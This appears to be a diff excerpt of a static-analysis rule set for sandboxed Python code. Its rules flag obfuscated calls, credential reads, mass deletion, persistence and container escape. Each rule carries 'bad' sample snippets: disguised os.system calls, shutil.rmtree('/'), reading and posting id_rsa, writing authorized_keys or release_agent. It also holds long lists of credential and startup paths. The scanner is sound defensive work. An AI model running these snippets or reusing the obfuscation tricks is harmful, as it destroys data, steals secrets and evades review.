+        ok: ['import sys\nsys.path.append("lib")', 'import os\nos.environ["LANG"] = "C"', 'open_ = open'],
+    },
+    {
+        id: 'py/obfuscation/hidden-call',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Hides the name of a dangerous function that it calls',
+        recommendation: 'Import and call the function by its name',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { call: DANGEROUS, hidden: true },
+        bad: [
+            "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
+            "import sys\nsys.modules['os'].popen('id')",
+            "vars(__builtins__)['ex' + 'ec']('x = 1')",
+            "__builtins__.__dict__['eval']('1')",
+            "globals()['__builtins__'].__dict__['eval']('1')",
+            "import os\ngetattr(os, 'metsys'[::-1])('id')",
+            "import importlib\nimportlib.import_module('subp' + 'rocess').run(['id'])",
+            "print.__self__.__dict__[bytes([101, 118, 97, 108]).decode()]('1')",
+            "import operator, os\noperator.attrgetter('system')(os)('id')",
+            "import operator, os\noperator.methodcaller('system', 'id')(os)",
+            "import shutil\nshutil.os.system('id')",
+            "import os\nos.__dict__['sys' + 'tem']('id')",
+            "import os\nos.__getattribute__('system')('id')",
+            "import pydoc\npydoc.locate('os.system')('id')",
+            "a, b = 'ev', 'al'\n__builtins__.__dict__[a + b]('1')",
+            "import os\nn = ''.join(['s', 'y', 's', 't', 'e', 'm'])\ngetattr(os, n)('id')",
+            "import os\nname = 'xsxyxsxtxexm'.replace('x', '')\ngetattr(os, name)('id')",
+            "import os\nfor f in ['system']:\n    getattr(os, f)('id')",
+            "eval('__imp' + 'ort__(\"os\")').system('id')",
+            '\uff45val("1")',
+            "import os\nclass A:\n    run = getattr(os, 'sys' 'tem')\nA.run('id')",
+            "d = dict(a='sys', b='tem')\nimport os\ngetattr(os, '%(a)s%(b)s' % d)('id')",
+            "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')",
+            "import codecs, os\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
+            "import os\ngetattr(os, 'SYSTEM'.lower())('id')",
+            "import os\ngetattr(os, 'tsyqem'.translate(str.maketrans('tsyq', 'syst')))('id')",
+            "class A:\n    __class_getitem__ = exec\nA['x = 1']",
+            'import os, sys\nsys.excepthook = os.system',
+            "type('X', (), {'__getitem__': eval})()['1']",
+            "import os\ndef parts():\n    yield 'sys'\n    yield 'tem'\ngetattr(os, ''.join(parts()))('id')",
+            "import os\ngetattr(os, str.join('', ['sys', 'tem']))('id')",
+            "import os\ngetattr(os, (0x73797374656d).to_bytes(6, 'big').decode())('id')",
+            "import os, string as s\nx = s.ascii_lowercase\ngetattr(os, x[18] + 'ystem')('id')",
+            "import os, json\ngetattr(os, json.loads('\"system\"'))('id')",
+            "import os\nfrom string import Template\ngetattr(os, Template('${a}tem').substitute(a='sys'))('id')",
+            "import os, re\ngetattr(os, re.sub('x', '', 'sxyxsxtxexm'))('id')",
+            "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('make',))",
+            "class X:\n    def __getattr__(self, n):\n        return getattr(__import__('os'), n)\nX().system('id')",
+            "import os\ndef name(t):\n    return ''.join(chr(ord(c) - 1) for c in t)\ngetattr(os, name('tztufn'))('id')",
+        ],
+        ok: [
+            "import math\nprint(getattr(math, 'pi'))",
+            "import os\nprint(getattr(os, 'getuid')())",
+            "class A:\n    system = 1\nprint(getattr(A(), 'sys' + 'tem'))",
+            "import sys\nprint('os' in sys.modules)",
+            "import os\nos.system('id')",
+            "globals()['x'] = 1\nprint(globals()['x'])",
+            "import importlib\nprint(importlib.import_module('json').dumps({}))",
+        ],
+    },
+    {
+        id: 'py/obfuscation/hidden-import',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Hides the name of a module that it imports',
+        recommendation: 'Use an import statement',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { import: [...DANGEROUS_MODULES, '_posixsubprocess'], hidden: true },
+        bad: [
+            'import posix\nposix.getcwd()',
+            'import _posixsubprocess',
+            "__import__('o' + 's')",
+            "import importlib\nimportlib.import_module('sub' + 'process')",
+            "__import__(''.join(map(chr, [111, 115])))",
+            "import sys\nsys.modules['s' + 'ocket']",
+            "__import__('so'[::-1])",
+        ],
+        ok: ["__import__('os')", "import importlib\nimportlib.import_module('plugins.' + 'csv')", 'import os'],
+    },
+    {
+        id: 'py/obfuscation/disguised-code',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Decodes or puts together hidden text and runs it',
+        recommendation: 'Write the code out plainly',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: {
+            obfuscation: [
+                'base*',
+                'hex*',
+                'rot13',
+                'compressed',
+                'marshal',
+                'char-codes',
+                'reversed',
+                'joined letters',
+                'picked letters',
+                'swapped case',
+                'replaced letters',
+                'escape',
+                'entities',
+                'percent',
+                'source-encoding',
+            ],
+        },
+        bad: [
+            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+            "exec(bytes.fromhex('7072696e742831').decode() + ')')",
+            "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
+            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwBAAKagKF')))",
+            "exec(')1(tnirp'[::-1])",
+            "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))",
+            "exec('\\x70rint(1)')",
+            'import marshal\nexec(marshal.loads(b"abc"))',
+            "import lzma\nexec(lzma.decompress(b'\\xfd7zXZ'))",
+            "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
+            "s = ''\nfor n in (112, 114, 105, 110, 116):\n    s += chr(n)\nexec(s)",
+            'key = 7\ndata = bytes([119, 117, 110, 105, 115])\nexec(bytes(b ^ key for b in data).decode())',
+            "exec(''.join(reversed(')1(tnirp')))",
+            "exec('p_r_i_n_t_(_1_)'[::2])",
+            "exec(str(b'print(1)'.hex() and bytes.fromhex('7072696e74'), 'ascii'))",
+            "from base64 import b64decode as d\nf = lambda t: d(t).decode()\neval(f('MSsx'))",
+            '# -*- coding: unicode_escape -*-\nx = 1',
+            "import base64\npayload = 'cHJpbnQo' + 'MSk='\nfn = exec\nfn(base64.b64decode(payload))",
+        ],
+        ok: [
+            "import base64\nprint(base64.b64decode('aGVsbG8='))",
+            "print('olleh'[::-1])",
+            "print(''.join(chr(c) for c in [104, 105]))",
+            "import zlib\nprint(len(zlib.compress(b'a' * 100)))",
+            "exec('x = ' + '1')",
+            "exec(chr(10).join(['a = 1', 'b = 2']))",
+            '# -*- coding: utf-8 -*-\nx = 1',
+            "print(bytes.fromhex('6869').decode())",
+        ],
+    },
+    {
+        id: 'py/obfuscation/lookalike-name',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Writes a name in letters that Python reads as other letters',
+        recommendation: 'Write the name in plain letters',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'unicode-name' },
+        bad: ['\uff50rint(1)', 'import os\nos.name\nx = 𝒐𝒔'],
+        ok: ['π = 3.14\nprint(π)', 'print("\uff50rint")', 'été = 1\nprint(été)'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/python-files.js
+const python_files_languages = ['python'];
+/** Whatever takes a file's name. */
+const FILE_USERS = [
+    'open',
+    'os.open',
+    'os.listdir',
+    'os.scandir',
+    'os.walk',
+    'os.stat',
+    'os.chmod',
+    'os.chown',
+    'os.remove',
+    'os.unlink',
+    'os.rename',
+    'os.replace',
+    'os.symlink',
+    'os.link',
+    'os.truncate',
+    'os.mknod',
+    'os.readlink',
+    'pathlib.Path.*',
+    'shutil.*',
+    'glob.*',
+    'codecs.open',
+    'fileinput.*',
+    'linecache.*',
+    'gzip.open',
+    'bz2.open',
+    'lzma.open',
+    'tarfile.*',
+    'zipfile.*',
+    'mmap.mmap',
+    'sqlite3.connect',
+    'numpy.*',
+    'pandas.*',
+    'configparser.*',
+    'importlib.machinery.*',
+    'aiofiles.open',
+    '*.add',
+    '*.connect',
+    '*.read_file',
+];
+const python_files_WRITERS = [
+    'pathlib.Path.write_*',
+    'pathlib.Path.unlink',
+    'pathlib.Path.rename',
+    'pathlib.Path.chmod',
+    'pathlib.Path.symlink_to',
+    'shutil.copy*',
+    'shutil.move',
+    'os.rename',
+    'os.replace',
+    'os.symlink',
+    'os.remove',
+    'os.unlink',
+    'os.chmod',
+    'os.truncate',
+];
+const CHANGERS = ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'];
+const OPENERS = ['open', 'codecs.open', 'os.open', 'pathlib.Path.open', 'aiofiles.open'];
+const WRITING = { arg: [1, 'mode'], regex: '^[rb]{0,2}[waxt]|\\+' };
+const python_files_ACCOUNTS = [
+    '/etc/passwd',
+    '/etc/group',
+    '/etc/shadow',
+    '/etc/sudoers',
+    '/etc/gshadow',
+    '/etc/ssh/',
+    '/root/',
+    '/var/log/auth',
+];
+const CREDENTIALS = [
+    '.ssh/',
+    '.ssh',
+    '.aws/',
+    '.aws',
+    '.netrc',
+    '.git-credentials',
+    '.docker/config.json',
+    '.kube/config',
+    '.kube',
+    '.gnupg',
+    '.npmrc',
+    '.pypirc',
+    '.config/gcloud',
+    '.config/gh',
+    'id_rsa',
+    'id_ed25519',
+    'id_ecdsa',
+    '.vault-token',
+    '/var/run/secrets',
+    '/run/secrets',
+    'Login Data',
+    'logins.json',
+    'wallet.dat',
+    '.bash_history',
+    '.azure/',
+    '.git/config',
+    '.config/google-chrome',
+    '.config/chromium',
+    '.mozilla',
+    'Library/Keychains',
+    '.bitcoin',
+    '.electrum',
+    '.ethereum',
+    '.password-store',
+    '.pgpass',
+    '.my.cnf',
+    '.zsh_history',
+    '.python_history',
+    'kubernetes.io/serviceaccount',
+    '.terraform.d',
+];
+const SOCKETS = ['docker.sock', 'containerd.sock', 'crio.sock', 'podman.sock', 'dockershim.sock'];
+const KERNEL = [
+    '/proc/sysrq-trigger',
+    '/proc/kcore',
+    '/proc/kmem',
+    '/dev/mem',
+    '/dev/kmem',
+    '/dev/port',
+    '/proc/sys/',
+    '/sys/kernel/',
+    'release_agent',
+    'core_pattern',
+    '/proc/1/root',
+    '/sys/fs/cgroup/',
+];
+const python_files_STARTUP = [
+    '/etc/profile',
+    '/etc/environment',
+    '/etc/bash.bashrc',
+    '/etc/pam.d',
+    '/usr/local/bin/',
+    '/usr/bin/',
+    'pip.conf',
+    '.npmrc',
+    '.gitconfig',
+    '.config/systemd',
+    '.vimrc',
+    '.bashrc',
+    '.bash_profile',
+    '.profile',
+    '.zshrc',
+    'authorized_keys',
+    '/etc/cron',
+    '/var/spool/cron',
+    '.git/hooks',
+    'sitecustomize',
+    'usercustomize',
+    '/etc/ld.so.preload',
+    '/etc/systemd',
+    '/etc/init.d',
+    '/etc/rc.local',
+    '.config/autostart',
+    '/etc/passwd',
+    '/etc/shadow',
+    '/etc/sudoers',
+    '/etc/hosts',
+    '.ssh/config',
+];
+/** A home or a folder of the system, whole or with everything in it. */
+const SYSTEM_FOLDER = '^(?:/\\*{0,2}|~(?:/\\*{1,2})?|/(?:home|root|etc|usr|bin|sbin|lib|boot|opt|srv|var)(?:/[\\w./*-]{0,40})?)$';
+const fileRules = [
+    {
+        id: 'py/filesystem/open',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Reads or writes files',
+        recommendation: 'Write only to the output folder',
+        metadata: { capability: 'filesystem' },
+        match: [
+            {
+                call: [
+                    ...OPENERS,
+                    'pathlib.Path.read_*',
+                    'pathlib.Path.write_*',
+                    'pathlib.Path.touch',
+                    'pathlib.Path.mkdir',
+                    'os.mkdir',
+                    'os.makedirs',
+                    'os.listdir',
+                    'os.walk',
+                    'os.scandir',
+                    'os.rename',
+                    'os.replace',
+                    'os.link',
+                    'os.symlink',
+                    'os.chmod',
+                    'os.chown',
+                    'glob.*',
+                    'shutil.*',
+                    'tempfile.*',
+                    'io.FileIO',
+                    'sqlite3.connect',
+                ],
+            },
+        ],
+        bad: [
+            "open('a.txt')",
+            "from pathlib import Path as P\nP('a').read_text()",
+            "import io\nio.open('a')",
+            "import os\nos.listdir('.')",
+            'o = open\no("x")',
+            "with open('out.txt', 'w') as f:\n    f.write('x')",
+        ],
+        ok: [
+            "print('open(')",
+            'import io\nio.StringIO("x").read()',
+            'class Door:\n    def open(self):\n        return 1\nDoor().open()',
+            'def open_all(x):\n    return x\nopen_all(1)',
+            "from pathlib import Path\nPath('a').name",
+        ],
+    },
+    {
+        id: 'py/filesystem/modules',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Imports modules that reach files and the system',
+        recommendation: 'Import only what the program needs',
+        metadata: { capability: 'filesystem' },
+        match: { import: ['os', 'os.path', 'sys', 'shutil', 'tempfile', 'glob', 'fileinput', 'importlib*', 'builtins'] },
+        bad: ['import os', 'import sys', 'import os as o', 'from sys import argv', 'import importlib', 'import shutil'],
+        ok: ['import math', '# import os', 'os = 1\nprint(os)'],
+    },
+    {
+        id: 'py/filesystem/delete',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Deletes files',
+        recommendation: 'Leave files alone: the sandbox is thrown away anyhow',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: {
+            call: [
+                'os.remove',
+                'os.unlink',
+                'os.rmdir',
+                'os.removedirs',
+                'shutil.rmtree',
+                'pathlib.Path.unlink',
+                'pathlib.Path.rmdir',
+                'os.truncate',
+            ],
+        },
+        bad: [
+            "import os\nos.remove('a')",
+            "import shutil as s\ns.rmtree('build')",
+            "from pathlib import Path\nPath('a').unlink()",
+            'import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)',
+        ],
+        ok: ['x = [1]\nx.remove(1)', "import os\nos.path.exists('a')"],
+    },
+    {
+        id: 'py/filesystem/delete-by-argument',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Deletes what somebody outside names',
+        recommendation: 'Delete only paths that the program made itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            {
+                call: [
+                    'os.remove',
+                    'os.unlink',
+                    'os.rmdir',
+                    'os.removedirs',
+                    'shutil.rmtree',
+                    'pathlib.Path.unlink',
+                    'pathlib.Path.rmdir',
+                ],
+                where: { arg: [0, 'path'], is: 'external' },
+            },
+            {
+                all: [
+                    {
+                        call: ['os.walk', 'glob.*', 'os.listdir', 'pathlib.Path.rglob', 'pathlib.Path.glob', 'os.scandir'],
+                        // A folder below the current one is the program's own.
+                        where: { arg: 0, regex: '^(?!/|~|\\.\\.|\\.?/?$|\\*|\\$)', not: true },
+                    },
+                    {
+                        call: ['os.remove', 'os.unlink', 'shutil.rmtree', '?.unlink', 'pathlib.Path.unlink'],
+                        where: { arg: 0, is: 'non-literal' },
+                    },
+                ],
+            },
+        ],
+        bad: [
+            'import sys, shutil\nshutil.rmtree(sys.argv[1])',
+            'import os\ndef f(p):\n    os.remove(p)',
+            'import os\nos.unlink(input())',
+            "import os\nfor r, d, fs in os.walk('.'):\n    for f in fs:\n        os.remove(os.path.join(r, f))",
+        ],
+        ok: ["import os\nos.remove('a')", 'import tempfile, os\nf = tempfile.mktemp()\nos.remove(f)'],
+    },
+    {
+        id: 'py/filesystem/delete-everything',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Deletes a home folder or the whole file system',
+        recommendation: 'Delete only paths that the program made itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: [
+            {
+                call: ['shutil.rmtree', 'os.removedirs', 'os.rmdir'],
+                where: {
+                    arg: [0, 'path'],
+                    regex: '^(?:/|~|/\\*|/(?:home|root|etc|usr|var|bin|lib|boot|opt|srv|data|mnt)(?:/\\*?)?|~/|\\.\\.(?:/\\.\\.){0,4}/?)$',
+                },
+            },
+            {
+                all: [
+                    {
+                        call: [
+                            'os.walk',
+                            'glob.*',
+                            'os.scandir',
+                            'os.listdir',
+                            'pathlib.Path.rglob',
+                            'pathlib.Path.glob',
+                            'pathlib.Path.iterdir',
+                        ],
+                        where: { arg: 0, regex: SYSTEM_FOLDER },
+                    },
+                    { call: ['os.remove', 'os.unlink', 'shutil.rmtree', '*.unlink'] },
+                ],
+            },
+        ],
+        bad: [
+            "import shutil\nshutil.rmtree('/')",
+            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
+            "import os\nfor r, d, fs in os.walk('/'):\n    for f in fs:\n        os.remove(os.path.join(r, f))",
+            "import shutil\nfor p in ['/home', '/etc']:\n    shutil.rmtree(p)",
+            "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    p.unlink()",
+        ],
+        ok: [
+            "import shutil\nshutil.rmtree('build')",
+            "import shutil\nshutil.rmtree('/tmp/x')",
+            "import os\nfor r, d, fs in os.walk('/'):\n    print(fs)",
+        ],
+    },
+    {
+        id: 'py/filesystem/overwrite-everything',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Overwrites every file of a home or a system folder',
+        recommendation: 'Write only to files that the program made itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: {
+            all: [
+                {
+                    call: ['os.walk', 'glob.*', 'os.scandir', 'os.listdir', 'pathlib.Path.rglob', 'pathlib.Path.glob'],
+                    where: { arg: 0, regex: SYSTEM_FOLDER },
+                },
+                { call: [...OPENERS, 'pathlib.Path.write_*'], where: [{ arg: 0, is: 'non-literal' }, WRITING] },
+            ],
+        },
+        bad: [
+            "import glob\nfor f in glob.glob('/home/**/*', recursive=True):\n    open(f, 'w').close()",
+            "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        open(os.path.join(r, f), 'wb').write(b'x')",
+        ],
+        ok: [
+            "import glob\nfor f in glob.glob('*.txt'):\n    open(f + '.bak', 'w').close()",
+            "import os\nfor r, d, fs in os.walk('/usr'):\n    print(len(fs))",
+        ],
+    },
+    {
+        id: 'py/filesystem/sensitive-path',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Opens files that hold accounts, keys or credentials',
+        recommendation: 'Read only files of the program itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['sensitive-path'],
+        match: [
+            { call: FILE_USERS, where: { arg: 0, contains: [...python_files_ACCOUNTS, ...CREDENTIALS] } },
+            { call: 'netrc.netrc' },
+            {
+                call: FILE_USERS,
+                where: { arg: 0, regex: ['^/proc/(?:\\d+|self|\\*|\\$)', '(?:^|/)\\.env(?:\\.\\w{1,12})?$', '(?:\\.\\./){3}'] },
+            },
+        ],
+        bad: [
+            "open('/etc/passwd')",
+            "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
+            "import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))",
+            "import glob\nfor f in glob.glob('/home/*/.ssh/*'):\n    print(open(f).read())",
+            "p = '/etc/' + 'sha' + 'dow'\nprint(open(p).read())",
+            "import linecache\nlinecache.getlines('/etc/passwd')",
+            "open('../../../../etc/hosts')",
+            'import os\nopen(f"{os.environ[\'HOME\']}/.netrc")',
+            "from dotenv import x\nopen('.env')",
+            "open('/proc/self/maps')",
+        ],
+        ok: [
+            "open('data/passwd.txt')",
+            "print('/etc/passwd')",
+            "open('environment.txt')",
+            "open('/proc/cpuinfo')",
+            "open('../data.txt')",
+            "from pathlib import Path\nPath('id').read_text()",
+        ],
+    },
+    {
+        id: 'py/filesystem/credential-name',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Names a file that holds keys or credentials',
+        recommendation: 'Leave credentials out of programs that run in the sandbox',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['credential-name'],
+        match: {
+            string: {
+                regex: '(?:^|/)(?:id_(?:rsa|dsa|ecdsa|ed25519)|\\.git-credentials|\\.netrc|\\.pypirc|\\.npmrc|\\.pgpass|\\.aws|\\.ssh|\\.kube|\\.gnupg|wallet\\.dat|logins\\.json|Login Data|key4\\.db)$',
+            },
+        },
+        bad: ["names = ('id_rsa', '.pypirc')", "print('.netrc')"],
+        ok: ["print('id')", "print('rsa')", "print('my.netrc.txt')"],
+    },
+    {
+        id: 'py/filesystem/credentials-sent',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Looks for files by the names of credentials, opens files and talks to the network',
+        recommendation: 'Leave credentials out of programs that run in the sandbox',
+        metadata: { capability: 'filesystem', cwe: 'CWE-200' },
+        match: { combine: ['credential-name', ['py/filesystem/open'], 'send'] },
+        bad: [
+            "import os, requests\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        if f == 'id_rsa':\n            requests.post('http://example.org', data=open(os.path.join(d, f)))",
+        ],
+        ok: [
+            "import os\nfor d, _, fs in os.walk('.'):\n    for f in fs:\n        if f == '.npmrc':\n            print(os.path.join(d, f))",
+            "import requests\nprint('id_rsa')\nrequests.get('http://example.org')",
+        ],
+    },
+    {
+        id: 'py/environment-secrets/process-environment',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Reads the environment or the memory of processes through /proc',
+        recommendation: 'Read single variables with os.environ',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-214' },
+        tags: ['secrets', 'sensitive-path'],
+        match: { call: FILE_USERS, where: { arg: 0, regex: '^/proc/[^/]{1,20}/(?:environ|mem|root|cwd/|fd/)' } },
+        bad: [
+            "open('/proc/self/environ').read()",
+            "import os\nopen(f'/proc/{os.getppid()}/environ')",
+            "import glob\nfor p in glob.glob('/proc/*/environ'):\n    print(p)",
+            "open('/proc/1/mem', 'rb')",
+            "from pathlib import Path\nPath('/proc', 'self', 'environ').read_bytes()",
+        ],
+        ok: ["open('/proc/cpuinfo')", "open('/proc/self/status')", "print('/proc/self/environ')"],
+    },
+    {
+        id: 'py/sandbox-escape/container-socket',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Talks to the container engine, which rules the host',
+        recommendation: 'Leave the engine to the host',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: [
+            {
+                call: [
+                    ...FILE_USERS,
+                    'docker.*',
+                    'podman.*',
+                    'requests_unixsocket*',
+                    'http.client.*',
+                    'aiohttp.*',
+                    'httpx.*',
+                    'urllib3.*',
+                    'asyncio.open_unix_connection',
+                    'os.path.exists',
+                ],
+                where: { arg: 'any', contains: SOCKETS },
+            },
+            { call: ['docker.from_env', 'docker.DockerClient', 'docker.APIClient', 'podman.PodmanClient'] },
+        ],
+        bad: [
+            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')",
+            'import docker\ndocker.from_env()',
+            "import httpx\nhttpx.HTTPTransport(uds='/run/' + 'docker.sock')",
+            "import asyncio\nasync def f():\n    await asyncio.open_unix_connection('/run/containerd/containerd.sock')",
+        ],
+        ok: [
+            "print('/var/run/docker.sock')",
+            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/tmp/my.sock')",
+            "config = {'socket': 'docker.sock'}",
+        ],
+    },
+    {
+        id: 'py/sandbox-escape/kernel',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Touches the kernel’s own files',
+        recommendation: 'Leave /proc, /sys and /dev alone',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: [
+            { call: [...OPENERS, ...python_files_WRITERS], where: [{ arg: 0, contains: KERNEL }, { ...WRITING }] },
+            {
+                call: [...OPENERS],
+                where: {
+                    arg: 0,
+                    contains: [
+                        '/proc/kcore',
+                        '/dev/mem',
+                        '/dev/kmem',
+                        '/dev/port',
+                        '/proc/1/root',
+                        '/proc/1/ns/',
+                        'sysrq-trigger',
+                    ],
+                },
+            },
+            { call: python_files_WRITERS, where: { arg: 0, contains: KERNEL } },
+            {
+                call: [...OPENERS, 'pathlib.Path.*'],
+                where: { arg: 0, regex: '^/dev/(?:sd|nvme|hd|vd|xvd|mapper/|loop|disk/|mmcblk)' },
+            },
+        ],
+        bad: [
+            "open('/proc/sysrq-trigger', 'w').write('b')",
+            "open('/dev/sda', 'wb').write(b'0')",
+            "from pathlib import Path\nPath('/proc/sys/kernel/core_pattern').write_text('|/x')",
+            "with open('/sys/fs/cgroup/rdma/release_agent', 'w') as f:\n    f.write('/x')",
+            "open('/dev/mem', 'rb')",
+        ],
+        ok: [
+            "open('/proc/sys/kernel/hostname')",
+            "open('/dev/null', 'w')",
+            "open('/dev/urandom', 'rb').read(8)",
+            "open('/sys/fs/cgroup/memory.max').read()",
+        ],
+    },
+    {
+        id: 'py/filesystem/startup-file',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Writes to a file that other programs run or trust',
+        recommendation: 'Write only to the output folder',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: [
+            { call: OPENERS, where: [{ arg: 0, contains: python_files_STARTUP }, WRITING] },
+            { call: python_files_WRITERS, where: { arg: 'any', contains: python_files_STARTUP } },
+            { call: OPENERS, where: [{ arg: 0, regex: '\\.pth$' }, WRITING] },
+            {
+                all: [
+                    { attribute: ['os.environ.GITHUB_ENV', 'os.environ.GITHUB_PATH', 'os.environ.BASH_ENV'] },
+                    { call: OPENERS, where: [{ arg: 0, is: 'external' }, WRITING] },
+                ],
+            },
+        ],
+        bad: [
+            "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+            "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-rsa A')",
+            "open('/etc/cron.d/x', 'w')",
+            "open('.git/hooks/pre-commit', 'w')",
+            "import os\nwith open(os.environ['GITHUB_ENV'], 'a') as f:\n    f.write('X=1')",
+            "open('/usr/lib/python3/dist-packages/x.pth', mode='w')",
+        ],
+        ok: [
+            "open('notes.txt', 'a')",
+            "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())",
+            "open('bashrc.md', 'w')",
+            "open('model.pth', 'rb')",
+        ],
+    },
+    {
+        id: 'py/filesystem/permissions',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Gives a file rights that let others change it or run it as somebody else',
+        recommendation: 'Leave permissions as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            // The numbers below 0o1000 whose last digit lets everybody write.
+            ...[0o622, 0o626, 0o632, 0o662, 0o666, 0o676, 0o722, 0o726, 0o732, 0o736, 0o762, 0o766, 0o772, 0o776].map((mode) => ({ call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: mode, atMost: mode + 1 } })),
+            { call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: 0o1000 } },
+            {
+                call: CHANGERS,
+                where: [
+                    { arg: 0, regex: '^/(?!tmp/)' },
+                    { arg: ['mode', 1], atLeast: 0o100 },
+                ],
+            },
+        ],
+        bad: [
+            "import os\nos.chmod('a', 0o777)",
+            "import os\nos.chmod('/bin/sh', 0o4755)",
+            "from pathlib import Path\nPath('run').chmod(0o777)",
+            "import os\nos.chmod('/usr/bin/x', 0o755)",
+        ],
+        ok: ["import os\nos.chmod('a', 0o644)", "import os\nos.chmod('run.sh', 0o755)"],
+    },
+    {
+        id: 'py/filesystem/makes-executable',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Makes a file executable',
+        recommendation: 'Set the mode in the repository',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        tags: ['execute'],
+        match: [
+            { call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: 0o700 } },
+            { all: [{ attribute: ['stat.S_IX*', 'stat.S_IRWX*', 'stat.S_IEXEC'] }, { call: CHANGERS }] },
+        ],
+        bad: ["import os\nos.chmod('run.sh', 0o755)", "import os, stat\nos.chmod('run.sh', stat.S_IXUSR | stat.S_IRUSR)"],
+        ok: ["import os\nos.chmod('a', 0o644)"],
+    },
+    {
+        id: 'py/filesystem/set-user-id',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Makes a file that runs with the rights of its owner',
+        recommendation: 'Leave permissions as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            {
+                call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'],
+                where: { arg: ['mode', 1, 0], atLeast: 2048, atMost: 4095 },
+            },
+            {
+                all: [
+                    { attribute: ['stat.S_ISUID', 'stat.S_ISGID'] },
+                    { call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'] },
+                ],
+            },
+        ],
+        bad: [
+            "import os\nos.chmod('/tmp/sh', 0o4755)",
+            "from pathlib import Path\nPath('/tmp/sh').chmod(0o6755)",
+            "import os, stat\nos.chmod('sh', stat.S_ISUID | 0o755)",
+        ],
+        ok: ["import os\nos.chmod('run.sh', 0o755)", "import os\nos.chmod('shared', 0o1777)"],
+    },
+    {
+        id: 'py/filesystem/unpacks-anywhere',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Unpacks an archive into a folder of the system',
+        recommendation: 'Unpack into a folder of the program, with `filter="data"`',
+        metadata: { capability: 'filesystem', cwe: 'CWE-22' },
+        match: {
+            call: ['*.extractall', '*.extract', 'shutil.unpack_archive'],
+            where: { arg: 'any', regex: '^/(?:$|etc|usr|root|home|var/(?!tmp)|bin|lib|opt|boot|\\.\\.)|^~|^\\.\\./' },
+        },
+        bad: [
+            "import tarfile\ntarfile.open('x.tgz').extractall('/')",
+            "import shutil\nshutil.unpack_archive('a.zip', '/etc')",
+        ],
+        ok: [
+            "import tarfile\ntarfile.open('x.tgz').extractall('out')",
+            "import zipfile\nzipfile.ZipFile('a.zip').extractall()",
+        ],
+    },
+    {
+        id: 'py/sandbox-escape/device',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Makes a device file, by which a disk can be reached past every check',
+        recommendation: 'Leave devices alone',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: { call: 'os.mknod' },
